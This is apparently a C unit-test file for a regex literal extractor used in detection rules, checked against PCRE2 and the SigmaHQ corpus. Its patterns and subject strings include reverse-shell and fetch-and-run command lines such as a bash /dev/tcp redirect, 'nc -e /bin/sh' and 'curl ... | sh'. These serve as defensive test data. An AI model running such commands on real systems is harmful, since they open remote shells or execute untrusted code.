/* Required literals of PCRE2 patterns: exact answers for hand-picked patterns, refusals for the
 * constructs the extractor does not model, and the safety property checked against PCRE2 itself
 * (whenever a pattern matches a subject, the lowercased subject holds the literal) over fixed
 * patterns, random patterns and the SigmaHQ |re values. */
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#define PCRE2_CODE_UNIT_WIDTH 8
#include <pcre2.h>

#include "dynbuf.h"
#include "file_read.h"
#include "regex_atom.h"

#include "banned.h"

/* What the engine passes for a |re value; the |i modifier adds PCRE2_CASELESS. */
#define ENGINE (PCRE2_UTF | PCRE2_MATCH_INVALID_UTF)
#define ENGINE_I (ENGINE | PCRE2_CASELESS)

static void expect_lit(const char *pat, uint32_t flags, size_t min_len, const char *want)
{
	char out[REGEX_ATOM_MAX + 1];
	size_t got = regex_required_literal(pat, strlen(pat), flags, min_len, out, sizeof(out));

	if (got != strlen(want) || memcmp(out, want, got) != 0 || out[got] != '\0')
		fail_msg("pattern '%s' flags %#x: got '%.*s' (%zu), want '%s'", pat, flags,
			 (int)got, out, got, want);
}

/* want: the set's strings joined by ',' in order ("" for none). */
static void expect_set(const char *pat, uint32_t flags, size_t min_len, const char *want)
{
	struct regex_set set;
	char got[REGEX_SET_MAX * REGEX_SET_LEN] = "";
	size_t k = 0;

	regex_required_set(pat, strlen(pat), flags, min_len, &set);
	for (unsigned i = 0; i < set.n; i++) {
		assert_int_equal(strlen(set.lit[i]), set.len[i]);
		k += (size_t)snprintf(got + k, sizeof(got) - k, "%s%s", i ? "," : "", set.lit[i]);
	}
	if (strcmp(got, want) != 0)
		fail_msg("pattern '%s' flags %#x: got set '%s', want '%s'", pat, flags, got, want);
}

static void test_sets(void **state)
{
	(void)state;
	/* SigmaHQ's Pnscan rule: no single literal of 2 bytes, a set of two. */
	expect_set("-(W|R)\\s?(\\s|\"|')([0-9a-fA-F]{2}\\s?){2,20}(\\s|\"|')", ENGINE, 2, "-w,-r");
	expect_lit("-(W|R)\\s?(\\s|\"|')([0-9a-fA-F]{2}\\s?){2,20}(\\s|\"|')", ENGINE, 2, "");
	expect_set("(?:wget|curl)\\s+http", ENGINE, 3, "http"); /* a longer single literal wins */
	expect_set("(?:wget|curl) -O", ENGINE, 3, "wget -o,curl -o");
	expect_set("(ba|z|k)sh -i", ENGINE, 3, "bash -i,zsh -i,ksh -i");
	expect_set("x(ab|c)?d", ENGINE, 1, "x");     /* optional group: nothing */
	expect_set("(ab|cd)+e", ENGINE, 2, "ab,cd"); /* at least once: then ends */
	expect_set("(a|)bc", ENGINE, 1, "bc");	     /* empty alternative */
	expect_set("(a|b[c])d", ENGINE, 1, "d");     /* not plain: skipped whole */
	expect_set("(?i:ab|cd)e", ENGINE, 1, "e");   /* flags: not plain */
	expect_set("s(u|\\.)do", ENGINE, 3, "sudo,s.do");
	expect_set("(a|b)(c|d)(e|f)(g|h)x", ENGINE, 3, "ace,acf,ade,adf,bce,bcf,bde,bdf");
	expect_set("(k|x)ab", ENGINE_I, 1, "ab"); /* caseless k may be KELVIN SIGN */
	expect_set("(k|x)ab", ENGINE, 1, "kab,xab");
	expect_set("a|(b|c)", ENGINE, 1, "");	      /* top-level |: refused */
	expect_set("(b|c", ENGINE, 1, "");	      /* unbalanced */
	expect_set("-(W|R)x", PCRE2_EXTENDED, 1, ""); /* extended mode refused */
	expect_set("", ENGINE, 1, "");
}

static void test_runs(void **state)
{
	(void)state;
	expect_lit("nc\\s+-e", ENGINE_I, 2, "nc");
	expect_lit("nc\\s+-e", ENGINE_I, 3, "");
	expect_lit("/dev/tcp/[0-9]+", ENGINE_I, 3, "/dev/tcp/");
	expect_lit("\\.onion\\b", ENGINE, 3, ".onion");
	expect_lit("(?i)mkfifo\\s+/tmp", 0, 3, "mkfifo");
	expect_lit("MkFiFo", ENGINE, 1, "mkfifo");
	expect_lit("a.bc^de$fgh", ENGINE, 1, "fgh");
	expect_lit("foo(bar)bazz", ENGINE, 1, "bazz");
	expect_lit("foo(bar)baz", ENGINE, 1, "foo");
	expect_lit("abc(?m)de", ENGINE, 1, "abc");
	expect_lit("ab(?#comment)cd", ENGINE, 1, "abcd");
	expect_lit("ab\\Ecd", ENGINE, 1, "abcd");
	expect_lit("}x]y{z", ENGINE, 1, "}x]y{z");
	expect_lit("a{b", ENGINE, 1, "a{b");
	expect_lit("a{1,2x}", ENGINE, 1, "a{1,2x}");
	expect_lit("\u00dcBER", 0, 1, "\u00dcber");
	expect_lit("tab\there", ENGINE, 1, "tab\there");
}

static void test_quantifiers(void **state)
{
	(void)state;
	expect_lit("ab?cdef", ENGINE, 1, "cdef");
	expect_lit("xyz+w", ENGINE, 1, "xyz");
	expect_lit("abc{2}d", ENGINE, 1, "abc");
	expect_lit("abc{0}defg", ENGINE, 1, "defg");
	expect_lit("abc{0,2}d", ENGINE, 1, "ab");
	expect_lit("abc{00}d", ENGINE, 1, "ab");
	expect_lit("abc{001}d", ENGINE, 1, "abc");
	expect_lit("abc{2,}d", ENGINE, 1, "abc");
	expect_lit("abc{,3}d", ENGINE, 1, "ab");   /* a quantifier from PCRE2 10.43 on */
	expect_lit("abc{ 1 }d", ENGINE, 1, "abc"); /* likewise */
	expect_lit("abc*d", ENGINE, 1, "ab");
	expect_lit("abc??d", ENGINE, 1, "ab");
	expect_lit("abc*+d", ENGINE, 1, "ab");
	expect_lit("abc+?d", ENGINE, 1, "abc");
	expect_lit("abc++d", ENGINE, 1, "abc");
	expect_lit("abc{2}?de", ENGINE, 1, "abc");
	expect_lit("\\d{2,3}bcd", ENGINE, 1, "bcd");
	expect_lit("\\d?bcd", ENGINE, 1, "bcd");
	expect_lit("(ab)*cd", ENGINE, 1, "cd");
	expect_lit("[ab]{2}cd", ENGINE, 1, "cd");
	expect_lit("abc\\.?d", ENGINE, 1, "abc");
	expect_lit("ab\u00e9?cd", ENGINE, 1, "ab"); /* U+00E9 is one character */
	expect_lit("ab\u00e9+cd", ENGINE, 1, "ab\u00e9");
	/* PCRE2 lets \E, \Q\E and comments stand between an item and its quantifier. */
	expect_lit("abc(?#c)?d", ENGINE, 1, "ab");
	expect_lit("abc\\E?d", ENGINE, 1, "ab");
	expect_lit("abc\\Q\\E*d", ENGINE, 1, "ab");
	expect_lit("abc\\E(?#x)\\Q\\E{0,1}d", ENGINE, 1, "ab");
}

static void test_escapes(void **state)
{
	(void)state;
	expect_lit("a\\.b\\/c\\-d\\\\e\\(f", ENGINE, 1, "a.b/c-d\\e(f");
	expect_lit("\\x41\\x42c", ENGINE, 1, "abc");
	expect_lit("\\xe9abc", ENGINE, 1, "abc"); /* U+00E9 is two bytes in UTF-8 */
	expect_lit("\\x4gab", ENGINE, 1, "gab");
	expect_lit("\\x{41}bc", ENGINE, 1, "bc");
	expect_lit("\\o{101}bc", ENGINE, 1, "bc");
	expect_lit("\\p{Lu}bc\\pLde", ENGINE, 1, "bc");
	expect_lit("\\N{U+41}bc", ENGINE, 1, "bc");
	expect_lit("(a)\\g{1}bc\\g-1de\\g<1>fg", ENGINE, 1, "bc");
	expect_lit("(?<n>a)\\k<n>bc\\k'n'de\\k{n}fgh", ENGINE, 1, "fgh");
	expect_lit("\\cXabc", ENGINE, 1, "abc");
	expect_lit("\\c{ab", ENGINE, 1, "ab");
	expect_lit("\\0123abc", ENGINE, 1, "abc");
	expect_lit("(a)\\1234", ENGINE, 1, "");
	expect_lit("\\d\\s\\w\\b\\B\\K\\R\\X\\h\\v", ENGINE, 1, "");
	expect_lit("\\Qa.b\\E", ENGINE, 1, "a.b");
	expect_lit("x\\Qa.b\\E?c", ENGINE, 1, "xa.");
	expect_lit("\\Qa|b(\\E", ENGINE, 1, "a|b(");
	expect_lit("\\Qabc", ENGINE, 1, "abc");
	expect_lit("\\Q\\\\E", ENGINE, 1, "\\");
	expect_lit("(x\\Q)\\E)abc", ENGINE, 1, "abc");
	expect_lit("(a\\c)b)cde", ENGINE, 1, "cde"); /* \c) is one character */
}

static void test_groups_and_classes(void **state)
{
	(void)state;
	expect_lit("(abc)", ENGINE, 1, "");
	expect_lit("(?:a|b)cde", ENGINE, 1, "cde");
	expect_lit("(a(b(c)))defg", ENGINE, 1, "defg");
	expect_lit("(\\))abc", ENGINE, 1, "abc");
	expect_lit("([)])abc", ENGINE, 1, "abc");
	expect_lit("(?<=x)abc(?!y)", ENGINE, 1, "abc");
	expect_lit("(?(1)a|b)cd", ENGINE, 1, "cd");
	expect_lit("(?P<n>x)(?P=n)ab", ENGINE, 1, "ab");
	expect_lit("(?i:x)yz", ENGINE, 1, "yz");
	expect_lit("[abc]+", ENGINE, 1, "");
	expect_lit("[]abc]defg", ENGINE, 1, "defg");
	expect_lit("[^]]xyz", ENGINE, 1, "xyz");
	expect_lit("[a\\]b]cde", ENGINE, 1, "cde");
	expect_lit("[[:alpha:]]+hello", ENGINE, 1, "hello");
	expect_lit("[[:^digit:]x]hello", ENGINE, 1, "hello");
	expect_lit("[(|]abc", ENGINE, 1, "abc");
	expect_lit("[\\c]]ab", ENGINE, 1, "ab");
}

static void test_case_folding(void **state)
{
	(void)state;
	/* With UTF, a caseless k or s also matches U+212A or U+017F, which ASCII folding misses. */
	expect_lit("(?i)mkfifo\\s+/tmp", ENGINE, 1, "fifo");
	expect_lit("mask", ENGINE_I, 1, "ma");
	expect_lit("(?i)mas+k", ENGINE, 1, "ma");
	expect_lit("mask", PCRE2_CASELESS, 1, "mask");
	expect_lit("mask", ENGINE, 1, "mask");
	expect_lit("abc(?i)kde", ENGINE, 1, "abc");
	expect_lit("(?-i)xyzkw", ENGINE, 1, "xyz"); /* never unset: cautious */
	expect_lit("\\x4bab", ENGINE_I, 1, "ab");
	expect_lit("\\Qmask\\E", ENGINE_I, 1, "ma");
	/* Non-ASCII letters have other cases in other bytes. */
	expect_lit("(?i)\u00fcber", ENGINE, 1, "ber");
	expect_lit("\u00fcber", ENGINE, 1, "\u00fcber");
	expect_lit("\u00fcber", PCRE2_CASELESS, 1, "ber");
}

static void test_refused(void **state)
{
	/* clang-format off */
	static const char *const pats[] = {
	    "", "a|bcd", "abc|", "|abc", "(abc)|def", "abc\\", "abc(", "(abc", "abc)", "(a))bc",
	    "[abc", "abc[]", "[[:alpha]abc", "[[.a.]]abc", "[[=a=]]abc", "[[:<:]]abc",
	    "[\\Q]\\E]abc", "[\\E]abc", "(*UTF)abc", "(*CR)abc", "abc(*ACCEPT)def",
	    "(?:x(*ACCEPT))defg", "abc(*SKIP)def", "(?C\")\")abc", "(?C1)abc", "(?x) a b c",
	    "abc(?x)", "(?x:a)bcd", "(?xx)abc", "(?-x)abc", "(?^x)abc", "(a(?x)b)cde", "(?[a])bcd",
	    "\\x{41abc", "\\p{Lu", "\\k<abc", "\\g'abc", "(?#abc", "(abc\\Q)", "\\d+", ".*",
	    "[a-z]+\\d",
	};
	/* clang-format on */

	(void)state;
	for (size_t i = 0; i < sizeof(pats) / sizeof(pats[0]); i++)
		expect_lit(pats[i], ENGINE, 1, "");
	expect_lit("abc", PCRE2_EXTENDED, 1, "");
	expect_lit("abc", ENGINE | PCRE2_EXTENDED_MORE, 1, "");
	expect_lit("abc", PCRE2_LITERAL, 1, "");
	expect_lit("abc", PCRE2_ALT_BSUX, 1, "");
	expect_lit("abc", PCRE2_ALLOW_EMPTY_CLASS, 1, "");
	expect_lit("abc", PCRE2_ALT_VERBNAMES, 1, "");
}

static void test_buffers(void **state)
{
	char out[8], big[REGEX_ATOM_MAX * 2 + 1];

	(void)state;
	memset(out, 'z', sizeof(out));
	assert_int_equal(regex_required_literal("abcdefg", 7, 0, 1, out, 4), 3);
	assert_string_equal(out, "abc");
	assert_int_equal(regex_required_literal("abcdefg", 7, 0, 1, out, 1), 0);
	assert_int_equal(out[0], '\0');
	assert_int_equal(regex_required_literal("abcdefg", 7, 0, 1, out, 0), 0);
	assert_int_equal(regex_required_literal(NULL, 0, 0, 1, out, sizeof(out)), 0);
	assert_int_equal(regex_required_literal("a\0b", 3, 0, 1, out, sizeof(out)), 3);
	assert_memory_equal(out, "a\0b", 4);
	assert_int_equal(regex_required_literal("ab\\x00c", 7, 0, 1, out, sizeof(out)), 4);
	assert_memory_equal(out, "ab\0c", 5);
	/* The length given is honoured: "cd" past n is not read. */
	assert_int_equal(regex_required_literal("ab|cd", 2, 0, 1, out, sizeof(out)), 2);
	assert_string_equal(out, "ab");
	memset(big, 'q', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	assert_int_equal(regex_required_literal(big, strlen(big), 0, 1, out, sizeof(out)), 7);
	{
		char wide[REGEX_ATOM_MAX * 2];

		assert_int_equal(regex_required_literal(big, strlen(big), 0, 1, wide, sizeof(wide)),
				 REGEX_ATOM_MAX);
	}
	{
		/* Unterminated comments after every literal: linear, not one scan per literal. */
		size_t n = 4 * 250000;
		char *p = malloc(n);

		assert_non_null(p);
		for (size_t i = 0; i < n; i += 4)
			memcpy(p + i, "a(?#", 4);
		assert_int_equal(regex_required_literal(p, n, 0, 1, out, sizeof(out)), 0);
		free(p);
	}
}

/* ---- the safety property, checked by PCRE2 ---- */

struct checker {
	pcre2_code *re;
	pcre2_match_data *md;
	const char *pat;
	char lit[REGEX_ATOM_MAX + 1];
	size_t lit_len;
	struct regex_set set; /* regex_required_set's answer, checked the same way */
	unsigned matched;
};

static bool checker_init(struct checker *c, const char *pat, uint32_t flags)
{
	int ec;
	PCRE2_SIZE eo;

	c->pat = pat;
	c->matched = 0;
	c->re = pcre2_compile((PCRE2_SPTR)pat, strlen(pat), flags, &ec, &eo, NULL);
	if (!c->re)
		return false;
	c->md = pcre2_match_data_create_from_pattern(c->re, NULL);
	assert_non_null(c->md);
	c->lit_len = regex_required_literal(pat, strlen(pat), flags, 1, c->lit, sizeof(c->lit));
	regex_required_set(pat, strlen(pat), flags, 1, &c->set);
	return true;
}

static void checker_release(struct checker *c)
{
	pcre2_match_data_free(c->md);
	pcre2_code_free(c->re);
}

static void check_subject(struct checker *c, const char *s, size_t n)
{
	char low[256];

	if (pcre2_match(c->re, (PCRE2_SPTR)s, n, 0, 0, c->md, NULL) < 0)
		return;
	c->matched++;
	assert_true(n <= sizeof(low));
	for (size_t i = 0; i < n; i++)
		low[i] = (char)(s[i] >= 'A' && s[i] <= 'Z' ? s[i] + 32 : s[i]);
	if (c->lit_len && !memmem(low, n, c->lit, c->lit_len))
		fail_msg("pattern '%s' matches '%.*s' which lacks its literal '%.*s'", c->pat,
			 (int)n, s, (int)c->lit_len, c->lit);
	bool any = c->set.n == 0;
	for (unsigned i = 0; i < c->set.n && !any; i++)
		any = memmem(low, n, c->set.lit[i], c->set.len[i]) != NULL;
	if (!any)
		fail_msg(
		    "pattern '%s' matches '%.*s' which holds none of its %u set literals ('%s'...)",
		    c->pat, (int)n, s, c->set.n, c->set.lit[0]);
}

/* The subject, its upper case, each one- or two-byte deletion and each one-byte duplication:
 * matching neighbours of a matching subject are where a wrong literal shows. */
static void check_near(struct checker *c, const char *s)
{
	char v[256];
	size_t n = strlen(s);

	assert_true(n < sizeof(v) / 2);
	check_subject(c, s, n);
	for (size_t i = 0; i < n; i++)
		v[i] = (char)(s[i] >= 'a' && s[i] <= 'z' ? s[i] - 32 : s[i]);
	check_subject(c, v, n);
	for (size_t i = 0; i < n; i++) {
		memcpy(v, s, i);
		memcpy(v + i, s + i + 1, n - i - 1);
		check_subject(c, v, n - 1);
		for (size_t j = i; j < n - 1 && n <= 40; j++) {
			char w[256];

			memcpy(w, v, j);
			memcpy(w + j, v + j + 1, n - 2 - j);
			check_subject(c, w, n - 2);
		}
		memcpy(v, s, i + 1);
		memcpy(v + i + 1, s + i, n - i);
		check_subject(c, v, n + 1);
	}
}

/* clang-format off */
static const char *const subjects[] = {
    "nc -e /bin/sh", "NC  -E", "ncat -e x", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/DEV/TCP/1",
    "http://abc.onion/x", "x.onionx", "mkfifo /tmp/f", "MKFIFO\t/TMP", "m\u212afifo /tmp", "acdef",
    "abcdef", "xyzw", "xyzzzw", "abccd", "abcd", "abd", "acd", "abbcd", "ab cd", "bcd", "xa.c",
    "xa.bc", "a|b(", "acde", "bcde", "foobaz", "foobarbaz", "]defg", "adefg", "axyz", "]xyz",
    "abchello", "1hello", "mask", "MASK", "ma\u017fk", "mas\u212a", "ma\u017f\u017fK",
    "chmod 777 x", "chmod 0777 y", "echo x|base64 -d", "curl http://x | sh", "wget x |bash",
    "/usr/bin/python3.8", "/usr/bin/perl", "ABc", "a.b.c", "ab.c", "\u00e9abc", "\u00fcber",
    "\u00dcBER", "sudo -u root", "sudo xyz -uroot", "abcDEF", "ABCdef", "kb", "kab", "b", "ssh",
    "\u017fsh", "s\u017fh", "/lib/python3.10/site-packages/x",
    "openssl s_client -connect 10.1.2.3:443 -quiet", "/mail/tmp/ab1123.tar.gz",
    "wget https://10.0.0.12/a.tar --no-check-certificate", "ls -i /", "ls --inode /x", " -O ", "-D",
    "a/.hidden", "x -W '0a 0b 0c' y", "",
};
/* clang-format on */

/* clang-format off */
static const char *const fixed_patterns[] = {
    "nc\\s+-e", "/dev/tcp/[0-9]+", "\\.onion\\b", "(?i)mkfifo\\s+/tmp", "mkfifo\\s+/tmp", "ab?cdef",
    "xyz+w", "abc{2}d", "abc{0,2}d", "ab{,3}cd", "ab{ 1 }cd", "abc*+d", "abc??d", "abc+?d",
    "a(?#c)?bcd", "abc\\E?d", "abc\\Q\\E*d", "x\\Qa.b\\E?c", "\\Qa|b(\\E", "(?:a|b)cde",
    "foo(bar)?baz", "[]abc]defg", "[^]]xyz", "[[:alpha:]]+hello", "mask", "(?i)mas+k",
    "chmod\\s+[0-7]*777", "base64\\s+-d", "(?:wget|curl)\\s.*\\|\\s*(ba)?sh",
    "^/usr/bin/(python|perl)[0-9.]*$", "\\x41\\x42c", "a\\.?b\\.c", "\u00e9?abc", "\u00fcber",
    "(?i)\u00fcber", "\\bsudo\\b.{0,20}-u\\s*root", "abc(?i)def", "ka{0}b", "s{1}sh", "\\x73sh",
    "-(W|R)\\s?(\\s|\"|')([0-9a-fA-F]{2}\\s?){2,20}(\\s|\"|')", "(ab|cd)+e", "x(ab|c)?d", "(n|N)c -e",
    "(?:wget|curl) ", "(ba|z|k)sh", "s(u|\\.)do", "(a|b)(c|d)(e|f)(g|h)x", "(mk|MK)fifo\\b",
};
/* clang-format on */

static const uint32_t flag_sets[] = {ENGINE_I, ENGINE, PCRE2_CASELESS, 0};

static void test_property_fixed(void **state)
{
	unsigned matched = 0;

	(void)state;
	for (size_t f = 0; f < sizeof(flag_sets) / sizeof(flag_sets[0]); f++) {
		for (size_t p = 0; p < sizeof(fixed_patterns) / sizeof(fixed_patterns[0]); p++) {
			struct checker c;

			if (!checker_init(&c, fixed_patterns[p], flag_sets[f]))
				fail_msg("'%s' does not compile", fixed_patterns[p]);
			for (size_t s = 0; s < sizeof(subjects) / sizeof(subjects[0]); s++)
				check_near(&c, subjects[s]);
			matched += c.matched;
			checker_release(&c);
		}
	}
	print_message("fixed patterns: %u matching subjects checked\n", matched);
	assert_true(matched > 1000);
}

static uint64_t rng = 0x2545f4914f6cdd1dull;

static uint32_t next_rand(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return (uint32_t)(rng >> 32);
}

/* Random patterns from pieces that stress the parser, random subjects from matching bytes. */
static void test_property_random(void **state)
{
	/* clang-format off */
	static const char *const pieces[] = {
	    "a", "b", "c", "ab", "K", "s", "{", "}", "0", "1", ",", "{0}", "{1,}", "{,2}", "{ 1 }",
	    "?", "*", "+", ".", "^", "$", "|", "\\", "\\.", "\\d", "\\b", "\\x61", "\\x4B", "\\Q",
	    "\\E", "\\Qa\\E", "(", ")", "(?:", "(?i)", "(?-i)", "(?#x)", "(?=a)", "[", "]", "[^",
	    "[:alpha:]", "[ab]", "\\1", "\\c", "\u00e9", "\u212a", "-", "(a|b)", "(?:ab|K)", "(s|c|)",
	    "(k|\\.)", "(A|bc)",
	};
	/* clang-format on */
	/* clang-format off */
	static const char *const bytes[] = {
	    "a", "b", "c", "A", "B", "k", "K", "s", "S", "{", "}", "0", "1", ",", ".", "-", " ",
	    "\\", "|", "(", "\u00e9", "\u00c9", "\u212a", "\u017f", "\n",
	};
	/* clang-format on */
	const size_t np = sizeof(pieces) / sizeof(pieces[0]), nb = sizeof(bytes) / sizeof(bytes[0]);
	unsigned compiled = 0, with_lit = 0, with_set = 0, matched = 0;

	(void)state;
	for (int iter = 0; iter < 6000; iter++) {
		char pat[128] = "", subj[64];
		size_t len = 0;
		struct checker c;

		for (uint32_t k = 1 + next_rand() % 8; k > 0; k--) {
			const char *piece = pieces[next_rand() % np];

			memcpy(pat + len, piece, strlen(piece) + 1);
			len += strlen(piece);
		}
		if (!checker_init(&c, pat, flag_sets[next_rand() % 4]))
			continue;
		compiled++;
		with_lit += c.lit_len > 0;
		with_set += c.set.n > 1;
		for (int s = 0; (c.lit_len || c.set.n) && s < 400; s++) {
			size_t n = 0;

			for (uint32_t k = next_rand() % 9; k > 0; k--) {
				const char *b = bytes[next_rand() % nb];

				memcpy(subj + n, b, strlen(b) + 1);
				n += strlen(b);
			}
			subj[n] = '\0';
			check_subject(&c, subj, n);
		}
		matched += c.matched;
		checker_release(&c);
	}
	print_message("random patterns: %u compiled, %u with a literal, %u with a set of several, "
		      "%u matches checked\n",
		      compiled, with_lit, with_set, matched);
	assert_true(with_lit > 500 && with_set > 100 && matched > 1000);
}

/* The k/s rule rests on these being the only ASCII characters with a non-ASCII case partner. */
static void test_fold_assumption(void **state)
{
	struct dynbuf all;
	unsigned found = 0;

	(void)state;
	dynbuf_init(&all, 8u << 20);
	for (uint32_t cp = 0x80; cp < 0x110000; cp++) {
		unsigned char u[4];
		size_t n;

		if (cp >= 0xd800 && cp < 0xe000)
			continue;
		if (cp < 0x800) {
			u[0] = (unsigned char)(0xc0 | cp >> 6);
			n = 1;
		} else if (cp < 0x10000) {
			u[0] = (unsigned char)(0xe0 | cp >> 12);
			u[1] = (unsigned char)(0x80 | ((cp >> 6) & 63));
			n = 2;
		} else {
			u[0] = (unsigned char)(0xf0 | cp >> 18);
			u[1] = (unsigned char)(0x80 | ((cp >> 12) & 63));
			u[2] = (unsigned char)(0x80 | ((cp >> 6) & 63));
			n = 3;
		}
		u[n++] = (unsigned char)(0x80 | (cp & 63));
		assert_int_equal(dynbuf_add(&all, u, n), 0);
	}
	for (int ch = 0x20; ch < 0x7f; ch++) {
		char pat[8];
		struct checker c;
		PCRE2_SIZE off = 0;

		snprintf(pat, sizeof(pat), "\\x{%02x}", ch);
		assert_true(checker_init(&c, pat, ENGINE_I));
		while (pcre2_match(c.re, (PCRE2_SPTR)all.data, all.len, off, 0, c.md, NULL) >= 0) {
			off = pcre2_get_ovector_pointer(c.md)[1];
			if (!strchr("kKsS", ch))
				fail_msg("'%c' has a non-ASCII case partner", ch);
			found++;
		}
		checker_release(&c);
	}
	assert_int_equal(found, 4); /* K and k: U+212A; S and s: U+017F */
	dynbuf_release(&all);
}

/* ---- SigmaHQ |re values ---- */

struct corpus {
	unsigned regexes, failed, with_lit;
};

/* A YAML scalar as the rules write it: 'single' (with ''), "double" (only \\, \" and \/), plain
 * (up to " #"). false for forms this reader does not handle. */
static bool yaml_scalar(const char *s, char *out, size_t cap)
{
	size_t n = 0;

	while (*s == ' ')
		s++;
	if (*s == '\'' || *s == '"') {
		char q = *s++;

		for (; *s && n + 1 < cap; s++) {
			if (*s == q && !(q == '\'' && s[1] == '\''))
				break;
			if ((q == '\'' && *s == '\'') || (q == '"' && *s == '\\')) {
				if (q == '"' && !strchr("\\\"/", s[1]))
					return false;
				s++;
			}
			out[n++] = *s;
		}
		if (*s != q)
			return false;
	} else {
		for (; *s && *s != '\n' && *s != '\r' && n + 1 < cap; s++) {
			if (*s == '#' && n && out[n - 1] == ' ')
				break;
			out[n++] = *s;
		}
		while (n && out[n - 1] == ' ')
			n--;
	}
	out[n] = '\0';
	return n > 0;
}

static void corpus_regex(struct corpus *cp, const char *pat, uint32_t flags)
{
	struct checker c;

	cp->regexes++;
	if (!checker_init(&c, pat, flags)) {
		cp->failed++;
		return;
	}
	cp->with_lit += c.lit_len > 0;
	print_message("  %-60s -> '%.*s'\n", pat, (int)c.lit_len, c.lit);
	for (size_t s = 0; s < sizeof(subjects) / sizeof(subjects[0]); s++)
		check_near(&c, subjects[s]);
	checker_release(&c);
}

/* Keys like "CommandLine|re:", "a|re|i:"; values inline or as a "- value" list below. */
static int corpus_file(void *ctx, const char *path)
{
	struct dynbuf b;
	char *line, *next;
	uint32_t list_flags = 0;
	size_t list_indent = 0;

	dynbuf_init(&b, 4u << 20);
	assert_int_equal(file_read(path, 4u << 20, &b), 0);
	for (line = b.data; line && *line; line = next) {
		char *key = line + strspn(line, " "), *colon, *re, val[1024];
		size_t indent = (size_t)(key - line);

		next = strchr(line, '\n');
		if (next)
			*next++ = '\0';
		if (list_indent && indent >= list_indent && key[0] == '-' && key[1] == ' ') {
			if (yaml_scalar(key + 2, val, sizeof(val)))
				corpus_regex(ctx, val, list_flags);
			continue;
		}
		list_indent = 0;
		key += key[0] == '-' && key[1] == ' ' ? 2 : 0;
		colon = strstr(key, ": ");
		if (!colon && (colon = strchr(key, ':')) && colon[1] != '\0')
			colon = NULL;
		if (!colon)
			continue;
		*colon = '\0';
		re = strstr(key, "|re");
		if (!re || (re[3] != '|' && re[3] != '\0'))
			continue;
		list_flags = ENGINE | (strstr(re, "|i") ? PCRE2_CASELESS : 0) |
			     (strstr(re, "|m") ? PCRE2_MULTILINE : 0) |
			     (strstr(re, "|s") ? PCRE2_DOTALL : 0);
		if (yaml_scalar(colon + 1, val, sizeof(val)))
			corpus_regex(ctx, val, list_flags);
		else if (colon[1] == '\0' || colon[1 + strspn(colon + 1, " ")] == '\0')
			list_indent = indent + 1;
	}
	dynbuf_release(&b);
	return 0;
}

static void test_sigmahq_regexes(void **state)
{
	static const char *const sfx[] = {".yml", NULL};
	const char *root = getenv("MAMORI_CORPORA");
	char dir[1024];
	struct corpus cp = {0};

	(void)state;
	snprintf(dir, sizeof(dir), "%s/sigma", root && *root ? root : MAMORI_CORPORA);
	if (file_list(dir, sfx, 100000, corpus_file, &cp) < 0) {
		print_message("SKIP: SigmaHQ corpus not found at %s (MAMORI_CORPORA=...)\n", dir);
		skip();
	}
	print_message("SigmaHQ: %u |re values, %u not compiled, %u with a literal\n", cp.regexes,
		      cp.failed, cp.with_lit);
	assert_true(cp.regexes > 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_runs),
	    cmocka_unit_test(test_sets),
	    cmocka_unit_test(test_quantifiers),
	    cmocka_unit_test(test_escapes),
	    cmocka_unit_test(test_groups_and_classes),
	    cmocka_unit_test(test_case_folding),
	    cmocka_unit_test(test_refused),
	    cmocka_unit_test(test_buffers),
	    cmocka_unit_test(test_property_fixed),
	    cmocka_unit_test(test_property_random),
	    cmocka_unit_test(test_fold_assumption),
	    cmocka_unit_test(test_sigmahq_regexes),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
